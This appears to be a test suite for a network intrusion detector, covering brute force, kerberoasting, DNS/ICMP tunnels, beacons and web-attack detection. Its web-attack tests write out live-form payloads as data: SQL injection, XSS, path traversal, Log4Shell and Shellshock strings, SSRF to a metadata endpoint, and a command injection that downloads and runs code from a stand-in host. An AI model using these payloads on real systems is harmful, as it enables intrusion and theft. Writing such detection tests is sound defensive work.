import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { beaconScore, randomFrom } from '@eyrie/detect';
import { partsOf } from '../src/rules/channels/dns-names.ts';
import { attackIn } from '../src/rules/web/web-attack.ts';
import { dns, findingsOf, flow, http, icmp, login, rulesOf, START, times } from './support.ts';

describe('brute force', () => {
  it('ten failures in ten minutes are found; critical when a login succeeds afterwards', () => {
    assert.deepEqual(rulesOf(times(9, (i) => login(false, i))), []);
    const [failed] = findingsOf(times(10, (i) => login(false, i)));
    assert.equal(failed?.severity, 'high');
    assert.match(failed.summary, /failed 10 times to log in to FTP of 10\.0\.0\.2:80 as ana/);
    const [entered] = findingsOf([...times(10, (i) => login(false, i)), login(true, 11)]);
    assert.equal(entered?.severity, 'critical');
  });

  it('a program that repeats an old password is not found', () => {
    assert.deepEqual(rulesOf(times(100, (i) => login(false, i * 5, { guess: 77 }))), []);
    assert.deepEqual(rulesOf(times(12, (i) => login(false, i * 5, { guess: 77 + i }))), ['brute-force']);
  });

  it('git and backup with many successful sessions are not found', () => {
    assert.deepEqual(rulesOf(times(200, (i) => login(true, i, { protocol: 'SSH', isInferred: true }))), []);
  });

  it('failures across hosts are found as password spraying', () => {
    const events = times(12, (i) => login(false, i * 60, { server: `10.0.1.${i}`, protocol: 'SMB' }));
    assert.deepEqual(rulesOf(events), ['password-spraying']);
  });

  it('of remote desktops is inferred from short sessions', () => {
    const sessions = (seconds: number) =>
      times(40, (i) =>
        flow(i * 2, { stream: i, server: { address: '10.0.0.2', port: 3389 }, end: START + i * 2 + seconds }),
      );
    assert.deepEqual(rulesOf(sessions(1)), ['login-connections']);
    assert.deepEqual(rulesOf(sessions(600)), []);
  });

  it('ten different SNMP communities are found; graver when one is answered', () => {
    const named = (i: number, guess = i, isAnswer = false) =>
      ({
        kind: 'community',
        ...{ time: START + i, frame: 1 + i, stream: 0, guess, isAnswer },
        ...{ client: '10.0.0.1', clientPort: 5000, server: '10.0.0.2', serverPort: 161 },
      }) as const;
    assert.deepEqual(rulesOf(times(9, (i) => named(i))), []);
    assert.deepEqual(rulesOf(times(500, (i) => named(i, 7))), []);
    const [unanswered] = findingsOf(times(12, (i) => named(i)));
    assert.deepEqual([unanswered?.rule, unanswered?.severity], ['community-guessing', 'medium']);
    const [found] = findingsOf([...times(12, (i) => named(i)), named(13, 11, true)]);
    assert.deepEqual([found?.severity, /one was answered/.test(found?.summary ?? '')], ['high', true]);
  });

  it('tickets under RC4 for ten services within a minute are kerberoasting', () => {
    const ticket = (service: string, after: number, encryption = 23, user = 'ana') =>
      ({
        kind: 'ticket',
        ...{ time: START + after, frame: 1, stream: 1 },
        ...{
          client: '10.0.0.1',
          clientPort: 40_000,
          server: '10.0.0.2',
          serverPort: 88,
          user,
          service,
          encryption,
        },
      }) as const;
    assert.deepEqual(rulesOf(times(10, (i) => ticket(`MSSQLSvc/db${i}:1433`, i * 0.1))), ['kerberoasting']);
    assert.deepEqual(rulesOf(times(10, (i) => ticket(`svc-${i}`, i * 0.1))), ['kerberoasting']);
    // Services in strong tickets, of computers, one after another, or the same again.
    assert.deepEqual(rulesOf(times(50, (i) => ticket(`MSSQLSvc/db${i}:1433`, i * 0.1, 18))), []);
    assert.deepEqual(rulesOf(times(50, (i) => ticket(`cifs/files${i}`, i * 0.1))), []);
    assert.deepEqual(rulesOf(times(50, (i) => ticket(`FILES${i}$`, i * 0.1))), []);
    assert.deepEqual(rulesOf(times(50, (i) => ticket(`MSSQLSvc/db${i}:1433`, i * 10))), []);
    assert.deepEqual(rulesOf(times(50, (i) => ticket(`MSSQLSvc/db${i % 9}:1433`, i * 0.1))), []);
    // Mail clients after a failover; users of a terminal server who log on at the same time.
    assert.deepEqual(rulesOf(times(50, (i) => ticket(`exchangeMDB/mail${i}.lan`, i * 0.1))), []);
    assert.deepEqual(rulesOf(times(50, (i) => ticket(`HTTP/intra${i}`, i * 0.1, 23, `user${i}`))), []);
  });

  it('five refused joins to the mesh are found', () => {
    const join = (i: number) =>
      ({ kind: 'join', time: START + i, frame: 0, address: '10.0.0.66', isSuccess: false }) as const;
    assert.deepEqual(rulesOf(times(4, join)), []);
    assert.deepEqual(rulesOf(times(5, join)), ['join-guessing']);
  });
});

describe('scan of mesh ports', () => {
  const refused = (peer: number, second: number, address = '10.0.0.66') =>
    ({ kind: 'refused', time: START + second, frame: 0, address, by: `peer-${peer}` }) as const;

  it('contacts to several of them are found', () => {
    assert.deepEqual(rulesOf(times(9, (i) => refused(i, i))), []);
    assert.deepEqual(rulesOf(times(10, (i) => refused(i, i * 0.1))), ['mesh-scan']);
  });

  it('repeated, distributed or slow contacts are not', () => {
    assert.deepEqual(rulesOf(times(100, (i) => refused(3, i * 0.05))), []);
    assert.deepEqual(rulesOf(times(100, (i) => refused(i, i * 0.05, `10.0.0.${i}`))), []);
    assert.deepEqual(rulesOf(times(30, (i) => refused(i, i * 2))), []);
  });
});

describe('tunnels', () => {
  const random = randomFrom(3);
  const word = (length: number) =>
    Array.from({ length }, () => 'abcdefghijklmnopqrstuvwxyz234567'[random.below(32)]).join('');
  const names = (count: number, length: number, domain: string, answer: number) =>
    times(count, (i) => {
      const name = `${word(length)}.${domain}`;
      return [dns(false, i, { name, id: i }), dns(true, i, { name, id: i, bytes: 60 + answer })];
    });

  it('DNS: long names below one domain are found, with data in the answers or without', () => {
    assert.deepEqual(rulesOf(names(60, 50, 't.example.com', 120)), ['dns-tunnel']);
    assert.deepEqual(rulesOf(names(60, 50, 't.example.co.uk', 10)), ['dns-exfiltration']);
    assert.deepEqual(rulesOf(names(20, 50, 't.example.com', 120)), []);
    assert.deepEqual(rulesOf(names(60, 6, 'example.com', 120)), []);
  });

  it('DNS: ten names of type NULL are found', () => {
    const asked = names(12, 12, 't.example.com', 120);
    assert.deepEqual(rulesOf(asked), []);
    assert.deepEqual(rulesOf(asked.map((event) => ({ ...event, type: 10 }) as typeof event)), ['dns-tunnel']);
  });

  it('DNS: content networks, block lists and reverse look-ups are not found', () => {
    for (const domain of ['d1.cloudfront.net', 'zen.spamhaus.org', 'in-addr.arpa', 'hash.avts.mcafee.com'])
      assert.deepEqual(rulesOf(names(100, 50, domain, 120)), []);
  });

  it('DNS: link-local names (mDNS, LLMNR, NetBIOS) are not found', () => {
    const asked = names(60, 50, 't.example.com', 120);
    const at = (serverPort: number) =>
      asked.flat().map((event) => ({ ...event, serverPort }) as typeof event);
    for (const port of [5353, 5355, 137]) assert.deepEqual(rulesOf(at(port)), [], `port ${port}`);
    assert.deepEqual(rulesOf(at(5354)), ['dns-tunnel']);
  });

  it('DNS: names are split at the registered domain', () => {
    assert.deepEqual(partsOf('a.b.example.co.uk'), { base: 'example.co.uk', data: 'ab' });
    assert.deepEqual(partsOf('a.example.com'), { base: 'example.com', data: 'a' });
    assert.deepEqual(partsOf('dnscat.0f3a9bc1'), { base: 'dnscat', data: '0f3a9bc1' });
    assert.equal(partsOf('4.3.2.1.in-addr.arpa'), null);
    assert.equal(partsOf('localhost'), null);
  });

  it('ICMP: replies whose data differ from the request are found', () => {
    const pings = (changed: boolean) =>
      times(10, (i) => [
        icmp('echo', i, { sequence: i, hash: i }),
        icmp('reply', i, {
          sequence: i,
          hash: changed ? i + 100 : i,
          source: '10.0.0.2',
          destination: '10.0.0.1',
        }),
      ]);
    assert.deepEqual(rulesOf(pings(true)), ['icmp-tunnel']);
    assert.deepEqual(rulesOf(pings(false)), []);
  });
});

describe('beacons', () => {
  it('score high for regular intervals, low for irregular ones', () => {
    const random = randomFrom(8);
    const regular = Array.from({ length: 100 }, (_, i) => i * 60 + random.next());
    const wild = Array.from({ length: 100 }, () => random.next() ** 4 * 6000).sort((a, b) => a - b);
    const same = regular.map(() => 500);
    assert.ok(beaconScore(regular, same)!.score > 0.9);
    assert.ok(
      beaconScore(
        wild,
        wild.map(() => 100 + random.below(100_000)),
      )!.score < 0.6,
    );
    assert.equal(beaconScore([1, 2, 3], [1, 1, 1]), null);
    assert.equal(beaconScore([1, 1, 1, 1, 1], [1, 1, 1, 1, 1]), null);
  });

  it('are found, but not to time servers', () => {
    const visits = (server: { address: string; port: number }) =>
      times(60, (i) => flow(i * 60 + (i % 3) * 9, { stream: i, server, applications: [] }));
    assert.deepEqual(rulesOf(visits({ address: '198.51.100.7', port: 443 }), ['low', 'medium']), ['beacon']);
    assert.deepEqual(rulesOf(visits({ address: '198.51.100.7', port: 123 }), ['low', 'medium']), []);
  });
});

describe('web attacks', () => {
  const attack = (uri: string, headers: string[] = [], body = '') => attackIn({ uri, headers, body });

  it('are found in any encoding', () => {
    const expected: readonly [string, string][] = [
      ['/?id=1%27+and+1%3D1%23', 'SQL injection'],
      ['/?id=1%20UNION/**/SELECT%20user,password%20FROM%20users', 'SQL injection'],
      ['/?id=1;WAITFOR%20DELAY%20%270:0:5%27', 'SQL injection'],
      ['/?q=%3Cscript%3Ealert(1)%3C/script%3E', 'cross-site scripting (XSS)'],
      ['/?q=%253Cimg%2520src=x%2520onerror=alert(1)%253E', 'cross-site scripting (XSS)'],
      ['/?file=../../../../etc/passwd', 'path traversal'],
      ['/cgi-bin/.%2e/.%2e/.%2e/etc/hosts', 'path traversal'],
      ['/ping?ip=127.0.0.1;cat%20/etc/motd', 'command injection (RCE)'],
      ['/shell?cd+/tmp;wget+http://192.0.2.1/x;sh+x', 'command injection (RCE)'],
      ['/index.php?page=php://input', 'code injection (RCE)'],
      ['/ping?ip=127.0.0.1%7Cid', 'command injection (RCE)'],
      ['/uploads/shell.php?cmd=whoami', 'command injection (RCE)'],
      ['/uploads/shell.php?a=1&c=cat+/etc/motd', 'command injection (RCE)'],
      ['/index.php?page=http://198.51.100.7/shell.txt?', 'code injection (RCE)'],
      ['/fetch?url=http://169.254.169.254/latest/meta-data/', 'server-side request forgery (SSRF)'],
      [`/?x=$${'{jndi:ldap://192.0.2.1/a}'}`, 'Log4Shell'],
    ];
    for (const [uri, name] of expected) assert.equal(attack(uri), name, uri);
    assert.equal(attack('/', ['User-Agent: () { :; }; /bin/bash -c id']), 'Shellshock');
    assert.equal(attack('/', [`User-Agent: $${'{$'}{lower:j}ndi:ldap://192.0.2.1/a}`]), 'Log4Shell');
    assert.equal(attack(`/?x=$${'{jn$'}{lower:d}i:ldap://192.0.2.1/a}`), 'Log4Shell');
    assert.equal(
      attack('/', ["Content-Type: %{(#nike='multipart/form-data').(#_memberAccess=1)}"]),
      'code injection (RCE)',
    );
    assert.equal(attack('/login', [], "user=admin'+or+'1'='1&pass=x"), 'SQL injection');
    assert.equal(attack('/login', [], 'user=ana&password[$ne]=x'), 'NoSQL injection');
    assert.equal(attack('/ping', [], 'ip=127.0.0.1|id'), 'command injection (RCE)');
  });

  it('are looked for in as many characters as servers accept, so that no request takes long', () => {
    const [short, long] = ['a'.repeat(4000), 'a'.repeat(9000)];
    const payload = "1' union select 1";
    assert.equal(attack(`/?a=${short}&b=${payload}`), 'SQL injection');
    assert.equal(attack(`/?a=${long}&b=${payload}`), null);
    const shellshock = 'User-Agent: () { :; }; /bin/bash -c id';
    assert.equal(attack('/', [`Cookie: ${short}`, shellshock]), 'Shellshock');
    assert.equal(attack('/', [`Cookie: ${long}`, shellshock]), null);
  });

  it('are not found in ordinary searches, texts and links', () => {
    for (const uri of [
      '/search?q=select+a+union+member+from+the+list',
      '/search?q=rock+%26+roll+and+1970s',
      "/search?q=it's+and+that's+it",
      '/a/../b/style.css',
      '/?q=cats+%26+dogs%3B+id+cards',
      '/?redirect=https%3A%2F%2Fexample.com%2F%3Fa%3D1%26b%3D2',
      '/?price=%24%7B100%7D',
      '/?name=O%27Brien&next=/home',
      '/issues?jql=project+%3D+%22ABC%22+and+status+%3D+%22Open%22',
      '/thumb?src=../../images/a.png',
      '/shop?size=15%22',
      '/?utm_content=a|b|c&cat=3',
      '/connector?cmd=ls&target=l1_Lw',
      '/rest?fields=name|id&c=cat',
      '/go?to=https://example.com/a.php?b=1',
      '/things?age[$gt]=5',
      '/?json=%7B%22a%22%3A%22b%22%2C%22c%22%3A1%7D',
    ])
      assert.equal(attack(uri), null, uri);
    assert.equal(attack('/comment', [], 'text=%3Cscript%3E+in+a+lesson+on+HTML'), null);
  });

  it('are graver when the server answers than when it refuses', () => {
    const uri = '/?id=1%27+union+select+1';
    const severity = (status: number) =>
      findingsOf([http('request', 0, { uri }), http('response', 1, { status })])[0]?.severity;
    assert.equal(severity(200), 'high');
    assert.equal(severity(403), 'medium');
  });

  it('a scan is found by many pages that do not exist', () => {
    const visit = (status: number) =>
      times(60, (i) => [http('request', i, { uri: `/${i}` }), http('response', i, { status })]);
    assert.deepEqual(rulesOf(visit(404)), ['web-scan']);
    assert.deepEqual(rulesOf(visit(200)), []);
  });
});

describe('other rules', () => {
  const ends = { stream: 1, client: '10.0.0.1', clientPort: 9, server: '10.0.0.2', serverPort: 443 };
  const tls = {
    kind: 'tls',
    time: START,
    frame: 1,
    ...ends,
    serverName: '',
    version: 0,
    suite: 0,
    notBefore: 0,
    notAfter: 0,
    overreach: 0,
  } as const;

  it('weak TLS, expired certificates and Heartbleed (critical) are found', () => {
    const rules = (event: object) =>
      findingsOf([{ ...tls, ...event } as never]).map(({ rule, severity }) => `${rule} ${severity}`);
    assert.deepEqual(rules({ step: 'hello', version: 0x0301, suite: 0xc02f }), ['tls-weak low']);
    assert.deepEqual(rules({ step: 'hello', version: 0x0303, suite: 0x0005 }), ['tls-weak low']);
    assert.deepEqual(rules({ step: 'hello', version: 0x0304, suite: 0x1301 }), []);
    assert.deepEqual(rules({ step: 'certificate', notBefore: START - 9e7, notAfter: START - 1e6 }), [
      'tls-certificate low',
    ]);
    assert.deepEqual(rules({ step: 'certificate', notBefore: START - 9e7, notAfter: START + 1e6 }), []);
    assert.deepEqual(rules({ step: 'heartbeat', overreach: 16_000 }), ['heartbleed critical']);
  });

  it('clear-text passwords are found, and not disclosed', () => {
    const event = (user: string) =>
      ({ kind: 'cleartext', time: START, frame: 1, ...ends, protocol: 'FTP', user }) as const;
    const [finding] = findingsOf([event('ana')]);
    assert.equal(finding?.severity, 'low');
    assert.match(finding.summary, /as ana, password \*\*\*\*/);
    assert.deepEqual(findingsOf([event('anonymous')]), []);
  });

  it('protocols on ports of others are found', () => {
    const rules = (port: number, application: string) =>
      rulesOf([flow(0, { server: { address: '10.0.0.2', port }, applications: [application] })], ['low']);
    assert.deepEqual(rules(443, 'ssh'), ['wrong-port']);
    assert.deepEqual(rules(443, 'tls'), []);
    assert.deepEqual(rules(8080, 'http'), []);
    assert.deepEqual(rules(2022, 'ssh'), ['wrong-port']);
  });

  it('a Land attack and requests for monlist are found', () => {
    const event = (what: 'same-ends' | 'ntp-monlist', frame: number) =>
      ({ kind: 'suspect', what, time: START + frame, frame, ...ends }) as const;
    assert.deepEqual(rulesOf([event('same-ends', 1)]), ['land']);
    assert.deepEqual(rulesOf(times(2, (i) => event('ntp-monlist', i))), []);
    assert.deepEqual(rulesOf(times(3, (i) => event('ntp-monlist', i))), ['ntp-monlist']);
  });

  it('Zerologon is found at the first attempt', () => {
    const event = { kind: 'suspect', what: 'zero-credential', time: START, frame: 1, ...ends } as const;
    assert.deepEqual(rulesOf([event]), ['zerologon']);
  });
});
